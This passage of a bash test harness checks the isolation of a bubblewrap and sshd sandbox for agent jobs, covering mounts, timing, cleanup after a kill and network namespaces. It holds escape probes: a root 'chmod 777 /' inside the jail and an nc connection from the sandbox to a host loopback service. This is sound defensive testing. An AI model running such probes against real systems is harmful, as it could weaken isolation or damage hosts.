  res "hardened: mounts seen in the jail" "$(sshj 'cut -d" " -f5,9 /proc/self/mountinfo' | tr '\n' ',')"
  res "agent ns: mounts under image-root" "$(nsenter -t $JOBPID -m findmnt -rn -o TARGET,FSTYPE | grep "$J/mnt/image-root" | tr '\n' ' ')"
  res "agent ns: image-root/dev content" "[$(nsenter -t $JOBPID -m ls -A $J/mnt/image-root/dev)]"
  res "host view: upper/dev content" "[$(ls -A $J/ovl/upper/dev 2>&1)]"
  res "host: mounts under $W" "$(findmnt -rn | grep -c "$W")"
  sshj 'chmod 777 /'     # the (root) user breaks the ChrootDirectory precondition
  res "after 'chmod 777 /' in jail: new login" "$(sshj 'echo ok' 2>&1 | tr '\n' ' ') | log: $(grep -o 'bad ownership.*' $J/sshd.log | tail -1)"
  nsenter -t $JOBPID -m sh -c "chown root:root $J/mnt/image-root && chmod 755 $J/mnt/image-root"
  res "after agent re-chmod 755 (via nsenter)" "$(sshj 'echo ok' 2>&1 | tr '\n' ' ')"
  stop_job
}

# ============================================================ 3. readiness timing
phase_timing() {
  say "3. readiness timing: start (env -i, unshare, mount sqfs+overlay, bwrap) -> SSH banner"
  [ -e $W/images/mini.sqfs ] || make_mini_root
  local jail i t=() l=()
  for jail in true false; do
    t=(); l=()
    for i in 1 2 3 4 5 6 7 8 9 10; do
      PROFILE=hardened start_job timing $jail 127.0.0.1
      t+=($READY_MS)
      # time the "Server listening" line showed up is not recorded by sshd; compare order only
      l+=($(grep -c 'Server listening' $J/sshd.log))
      stop_job
    done
    res "hardened jail=$jail ready ms (10 runs)" "${t[*]}  (keygen+etc each ~${PREP_MS}ms extra)"
    PROFILE=hardened start_job timing $jail 127.0.0.1
    local t0=$(now); for i in 1 2 3 4 5; do sshj true; done
    res "hardened jail=$jail ssh login+exit (avg of 5) ms" "$(( $(ms $t0 $(now)) / 5 ))"
    stop_job
  done
  # timing of the listen line vs banner (stderr polled)
  PROFILE=hardened
  J=$(new_jobdir timing2 $W/images/mini.sqfs); PORT=$(free_port); gen_etc $J false $PORT 127.0.0.1
  local cmd; cmd=$(bwrap_cmd $J false); local T0=$(now)
  env -i PATH=/usr/sbin:/usr/bin unshare --mount --propagation private -- /bin/sh -c "$MOUNT_IMAGE"'
    exec '"$cmd" sh $J 2> $J/sshd.log &
  JOBPID=$!
  while ! grep -q 'Server listening' $J/sshd.log 2>/dev/null; do sleep 0.001; done; local T1=$(now)
  wait_banner $PORT 5000; local T2=$(now)
  res "stderr 'Server listening' / banner ms" "$(ms $T0 $T1) / $(ms $T0 $T2)"
  stop_job
}

# ============================================================ 5. kill the agent
phase_killtest() {
  say "5. SIGKILL of the agent-like parent (or of bwrap itself) with an open session"
  [ -e $W/images/mini.sqfs ] || make_mini_root
  PROFILE=hardened
  local mode
  for mode in agent bwrap; do
    rm -f $W/jobs/kill-$mode.info
    ( start_job kill-$mode true 127.0.0.1; echo "$J $PORT $JOBPID $READY_MS" > $W/jobs/kill-$mode.info; wait ) &
    local AGENT=$!
    while [ ! -s $W/jobs/kill-$mode.info ]; do sleep 0.05; done
    local JJ BW R; read JJ PORT BW R < $W/jobs/kill-$mode.info; J=$JJ
    sshj 'sleep 4242' & local SESS=$!
    sleep 0.7
    local pat="sleep 4242|sshd: |/usr/sbin/sshd -D|bwrap .*$JJ"
    res "[$mode] before" "procs=$(ps -eo args | grep -E "$pat" | grep -vc grep) loops=$(losetup -a | grep -c "$W/images") ns-holders=$(grep -l "$JJ" /proc/[0-9]*/mountinfo 2>/dev/null | wc -l)"
    local t0=$(now) n=0
    if [ $mode = agent ]; then kill -9 $AGENT; else kill -9 $BW; fi
    while { ps -eo args | grep -E "$pat" | grep -qv grep || losetup -a | grep -q "$W/images"; } && [ $n -lt 500 ]; do sleep 0.005; n=$((n+1)); done
    res "[$mode] after SIGKILL (gone in $(ms $t0 $(now)) ms)" "procs=$(ps -eo args | grep -E "$pat" | grep -vc grep) loops=$(losetup -a | grep -c "$W/images") ns-holders=$(grep -l "$JJ" /proc/[0-9]*/mountinfo 2>/dev/null | wc -l) host-mounts=$(findmnt -rn | grep -c "$W")"
    wait $SESS 2>/dev/null; res "[$mode] ssh client exit status" "$?"
    wait $AGENT 2>/dev/null; kill -9 $BW 2>/dev/null
  done
}

# ============================================================ 2b. no host network (sshd -i)
phase_netns() {
  say "2b. hardened + --unshare-net: listening socket passed in, sshd -i per connection"
  [ -e $W/images/mini.sqfs ] || make_mini_root
  local HOSTPORT=$(free_port) jail
  /usr/bin/python3 -c "
import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1',$HOSTPORT)); s.listen(5)
while True:
    c,_=s.accept(); c.sendall(b'HOST-LOOPBACK-ONLY-SERVICE\n'); c.close()" & local SVC=$!
  PROFILE=hardened NETNS=1
  for jail in false true; do
    start_job netns-$jail $jail 127.0.0.1
    res "jail=$jail start -> banner ms" "$READY_MS"
    res "jail=$jail login + cmd" "$(sshj 'echo LOGIN-OK' 2>&1 | tr '\n' ' ')"
    res "jail=$jail pty" "$(sshj -tt 'tty' 2>&1 | grep -v lastlog | tr '\r\n' '  ')"
    res "jail=$jail sftp" "$(echo 'ls /' | sftpj - >/dev/null 2>&1 && echo sftp-ok || echo sftp-FAIL)"
    local t0=$(now); for i in 1 2 3 4 5; do sshj true; done
    res "jail=$jail ssh login+exit (avg of 5) ms" "$(( $(ms $t0 $(now)) / 5 ))"
    if [ $jail = false ]; then
      res "interfaces in sandbox" "$(sshj 'ls /proc/sys/net/ipv4/conf | tr "\n" " "')"
      res "host TCP LISTEN sockets visible" "$(sshj 'grep -c " 0A " /proc/net/tcp')"
      res "connect host 127.0.0.1:$HOSTPORT" "$(sshj "echo | /mnt/image/image-root/bin/busybox nc -w 2 127.0.0.1 $HOSTPORT" 2>&1) rc=$?"
    fi
    stop_job
  done
  NETNS=0
  kill $SVC; wait $SVC 2>/dev/null
}

clean() {
  say "cleanup"
  losetup -a | grep "$W/images" && echo "WARNING: loop devices left"
  chattr -R -i $W 2>/dev/null; rm -rf $W
  grep -q '^HOST-SECRET-1 ' $SECRET1 2>/dev/null && rm -f $SECRET1
  grep -q '^HOST-SECRET-2 ' $SECRET2 2>/dev/null && rm -f $SECRET2
  ls -A $BASE
}

case "${1:-all}" in
  squash)   setup_host; phase_squash ;;
  big)      setup_host; phase_big ;;
  jobs)     setup_host; phase_jobs ;;
  netns)    setup_host; phase_netns ;;
  caps)     setup_host; phase_caps ;;
  devtest)  setup_host; phase_devtest ;;
  timing)   setup_host; phase_timing ;;
  killtest) setup_host; phase_killtest ;;
  clean)    clean ;;
  all) setup_host; phase_squash; phase_jobs; phase_netns; phase_caps; phase_devtest; phase_timing; phase_killtest; phase_big; clean ;;
esac
